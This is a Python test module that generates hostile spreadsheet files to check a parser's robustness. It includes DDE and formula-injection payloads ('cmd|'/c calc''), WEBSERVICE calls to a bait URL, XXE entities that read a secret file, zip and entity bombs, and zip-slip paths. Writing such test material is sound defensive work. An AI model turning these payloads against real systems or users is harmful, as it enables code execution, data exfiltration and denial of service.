"""Workbooks made to hurt whoever reads them."""

import random
import zipfile
from collections.abc import Callable, Iterator, Mapping
from functools import cache
from io import BytesIO

import xlsxwriter
import xlwt

from shuzhi.prove.bait import Bait

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_MANIFEST = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
_ODS = "application/vnd.oasis.opendocument.spreadsheet"
_FORMULAS = (
    '=WEBSERVICE("{url}")', '=HYPERLINK("{url}","x")', "=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0",
    '@SUM(1+1)*cmd|"/c calc"!A0', "-2+3+cmd|'/c calc'!A0", '=IMPORTXML("{url}","//a")',
    '=DDE("cmd";"/c calc";"x")', "=EXEC(\"touch {target}\")", "=CALL(\"kernel32\",\"WinExec\")",
)  # fmt: skip

Make = Callable[[random.Random, Bait], bytes]


def hostile_workbooks(rng: random.Random, n: int, bait: Bait) -> Iterator[tuple[str, str, bytes]]:
    """`n` of them: kind, file name, bytes; the kinds take turns, each time drawn anew."""
    kinds = sorted(_KINDS)
    for number in range(n):
        kind = kinds[number % len(kinds)]
        ending, make = _KINDS[kind]
        yield kind, f"w{number}.{ending}", make(rng, bait)


def formula(rng: random.Random, bait: Bait) -> str:
    """One that would call or write, in the bait's words."""
    return rng.choice(_FORMULAS).replace("{url}", bait.url).replace("{target}", str(bait.target))


def _sheet(rows: str, head: str = "", after: str = "") -> str:
    return f'{head}<worksheet xmlns="{_MAIN}"><sheetData>{rows}</sheetData>{after}</worksheet>'


def _text_row(number: int, text: str) -> str:
    cell = f'<c r="A{number}" t="inlineStr"><is><t>{text}</t></is></c>'
    return f'<row r="{number}">{cell}</row>'


def _xlsx(sheet: str | bytes, more: Mapping[str, str | bytes] | None = None) -> bytes:
    """An honest workbook in which the only sheet is `sheet`, with `more` parts."""
    return _zip({**_honest_parts(), "xl/worksheets/sheet1.xml": sheet, **(more or {})})


@cache
def _honest_parts() -> Mapping[str, bytes]:
    out = BytesIO()
    with xlsxwriter.Workbook(out) as workbook:
        workbook.add_worksheet("a").write_string(0, 0, "a")
    with zipfile.ZipFile(out) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _zip(parts: Mapping[str, str | bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def honest_workbook(rng: random.Random) -> bytes:
    """One with nothing in it that hurts."""
    return _xlsx(_sheet("".join(_text_row(n, f"t{rng.random()}") for n in range(1, 30))))


def _zip_bomb(rng: random.Random, _: Bait) -> bytes:
    return _xlsx(b"0" * rng.randrange(20_000_000, 60_000_000))


def _bomb_beside(rng: random.Random, _: Bait) -> bytes:
    """The great part is not one that the reader needs."""
    return _xlsx(_sheet(_text_row(1, "a")), {"xl/media/a.bin": bytes(rng.randrange(9, 60) * 10**6)})


def _many_entries(rng: random.Random, _: Bait) -> bytes:
    extra = {f"xl/worksheets/s{n}.xml": "" for n in range(rng.randrange(2_001, 4_000))}
    return _xlsx(_sheet(""), extra)


def _entities(rng: random.Random, _: Bait) -> bytes:
    deep = rng.randrange(8, 14)
    lines = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, deep))
    head = f'<!DOCTYPE x [<!ENTITY e0 "ha">{lines}]>'
    return _xlsx(_sheet(_text_row(1, f"&e{deep - 1};"), head))


def _external_entity(rng: random.Random, bait: Bait) -> bytes:
    source = rng.choice((bait.secret.as_uri(), bait.url))
    head = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{source}"><!ENTITY % p SYSTEM "{bait.url}">%p;]>'
    return _xlsx(_sheet(_text_row(1, "&e;"), head))


def _truncated(rng: random.Random, _: Bait) -> bytes:
    whole = honest_workbook(rng)
    return whole[: rng.randrange(5, len(whole))]


def _flipped(rng: random.Random, _: Bait) -> bytes:
    return _damaged(rng, honest_workbook(rng))


def _damaged(rng: random.Random, content: bytes) -> bytes:
    changed = bytearray(content)
    for _ in range(rng.choice((1, 3, 20))):
        changed[rng.randrange(8, len(changed))] = rng.randrange(256)
    return bytes(changed)


def _far_cell(rng: random.Random, _: Bait) -> bytes:
    place = rng.choice(("XFD1048576", "ALL1", "A1048576", "ZZZZZ1", "A99999999999", "BDWGN1"))
    cell = f'<c r="{place}"><v>1</v></c>'
    return _xlsx(_sheet(f'<row r="1"><c r="A1"><v>1</v></c>{cell}</row>'))


def _claimed_extent(rng: random.Random, _: Bait) -> bytes:
    last = rng.choice(("XFD1048576", "ZZZZZ9999999"))
    body = f'<dimension ref="A1:{last}"/><sheetData>{_text_row(1, "a")}</sheetData>'
    return _xlsx(f'<worksheet xmlns="{_MAIN}">{body}</worksheet>')


def _formulas(rng: random.Random, bait: Bait) -> bytes:
    text = formula(rng, bait).lstrip("=").replace("&", "&amp;").replace("<", "&lt;")
    cached = rng.choice(("", "<v>7</v>"))
    return _xlsx(_sheet(f'<row r="1"><c r="A1"><f>{text}</f>{cached}</c></row>'))


def _outside_relation(rng: random.Random, bait: Bait) -> bytes:
    kind = rng.choice(("externalLinkPath", "image", "oleObject", "attachedTemplate"))
    relation = f'<Relationship Id="r9" TargetMode="External" Type="{_RELATIONS}/{kind}" '
    relations = f'<Relationships xmlns="{_PACKAGE}">{relation}Target="{bait.url}"/></Relationships>'
    return _xlsx(
        _sheet(_text_row(1, "a")),
        {
            "xl/worksheets/_rels/sheet1.xml.rels": relations,
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations,
        },
    )


def _path_out(rng: random.Random, bait: Bait) -> bytes:
    name = rng.choice((f"../../..{bait.target}", str(bait.target), "..\\..\\x.xml"))
    return _xlsx(_sheet(_text_row(1, "a")), {name: "written"})


def _deep_xml(rng: random.Random, _: Bait) -> bytes:
    deep = rng.randrange(20_000, 200_000)
    return _xlsx(_sheet("<row>" * deep + "</row>" * deep))


def _shared_text_missing(rng: random.Random, _: Bait) -> bytes:
    index = rng.choice((7, -1, 2**31, 2**63, 10**30))
    return _xlsx(_sheet(f'<row r="1"><c r="A1" t="s"><v>{index}</v></c></row>'))


def _merged_everywhere(rng: random.Random, _: Bait) -> bytes:
    one = '<mergeCell ref="A1:XFD1048576"/>'
    merges = f"<mergeCells>{one * rng.randrange(1, 2_000)}</mergeCells>"
    return _xlsx(_sheet(_text_row(1, "a"), after=merges))


def _zip_that_lies(rng: random.Random, _: Bait) -> bytes:
    """Sizes, methods and flags that are not so, in the local header or in the directory."""
    content = bytearray(honest_workbook(rng))
    directory = content.rfind(b"PK\x01\x02")
    for at in rng.sample((directory + 8, directory + 10, directory + 20, directory + 24, 6, 18), 2):
        content[at : at + 2] = rng.randbytes(2)
    return bytes(content)


def _ods(rng: random.Random, bait: Bait) -> bytes:
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    repeated = rng.choice(("number-columns-repeated", "number-rows-repeated"))
    cell = f'<table:table-cell table:{repeated}="{10 ** rng.randrange(6, 19)}" '
    value = formula(rng, bait).replace("&", "&amp;").replace('"', "&quot;")
    row = f'{cell}table:formula="{value}"><text:p>1</text:p></table:table-cell>'
    many = f' table:number-rows-repeated="{10**9}"' if rng.random() < 0.5 else ""
    body = f'<table:table table:name="a"><table:table-row{many}>{row}</table:table-row>'
    content = (
        f'<office:document-content xmlns:office="{office}" xmlns:table="{table}" '
        f'xmlns:text="{text}"><office:body><office:spreadsheet>{body}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    entries = f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{_ODS}"/>'
    manifest = f'<manifest:manifest xmlns:manifest="{_MANIFEST}">{entries}</manifest:manifest>'
    parts = {"mimetype": _ODS, "META-INF/manifest.xml": manifest, "content.xml": content}
    return _zip(parts)


def _xls(rng: random.Random, _: Bait) -> bytes:
    book = xlwt.Workbook()
    sheet = book.add_sheet("a")
    for row in range(40):
        sheet.write(row, row % 7, rng.choice((f"t{rng.random()}", rng.random())))
    out = BytesIO()
    book.save(out)
    content = out.getvalue()
    return _damaged(rng, content) if rng.random() < 0.8 else content[: rng.randrange(8, 6_000)]


def _csv_columns(rng: random.Random, _: Bait) -> bytes:
    return rng.choice((b",", b"\t", b";")) * rng.choice((10**4, 10**6)) + b"\n1"


def _csv_field(rng: random.Random, _: Bait) -> bytes:
    return b'a,b\n"' + b"x" * rng.choice((2**20 + 1, 5_000_000)) + b'",2\n'


def _csv_formulas(rng: random.Random, bait: Bait) -> bytes:
    cell = formula(rng, bait).replace('"', '""')
    return f'单位,日期\n"{cell}",2023-01-01\n'.encode(rng.choice(("utf-8", "gb18030")))


def _csv_bytes(rng: random.Random, _: Bait) -> bytes:
    text = "单位,日期\n甲,2023-01-01\n"
    return rng.choice(
        (
            rng.randbytes(2_000), text.encode("utf-16-le"), b"\xff\xfe" + rng.randbytes(999),
            b"\x00" * 5_000, text.encode("gb18030")[:-3] + b"\xff\xff",
            b"\xef\xbb\xbf" + text.encode("gb18030"), b"\xfe\xff\xd8\x00",
        )
    )  # fmt: skip


_KINDS: Mapping[str, tuple[str, Make]] = {
    "zip bomb": ("xlsx", _zip_bomb),
    "bomb beside the sheets": ("xlsx", _bomb_beside),
    "too many entries": ("xlsx", _many_entries),
    "entity bomb": ("xlsx", _entities),
    "external entity": ("xlsx", _external_entity),
    "broken zip": ("xlsx", _truncated),
    "changed bytes": ("xlsx", _flipped),
    "zip that lies": ("xlsx", _zip_that_lies),
    "cell far out": ("xlsx", _far_cell),
    "extent claimed": ("xlsx", _claimed_extent),
    "formulas": ("xlsx", _formulas),
    "outside relation": ("xlsx", _outside_relation),
    "path out of the archive": ("xlsx", _path_out),
    "deep XML": ("xlsx", _deep_xml),
    "shared text missing": ("xlsx", _shared_text_missing),
    "merged everywhere": ("xlsx", _merged_everywhere),
    "repeated cells": ("ods", _ods),
    "damaged xls": ("xls", _xls),
    "10⁶ columns": ("csv", _csv_columns),
    "endless field": ("csv", _csv_field),
    "formulas in text": ("csv", _csv_formulas),
    "wrong encoding": ("csv", _csv_bytes),
}
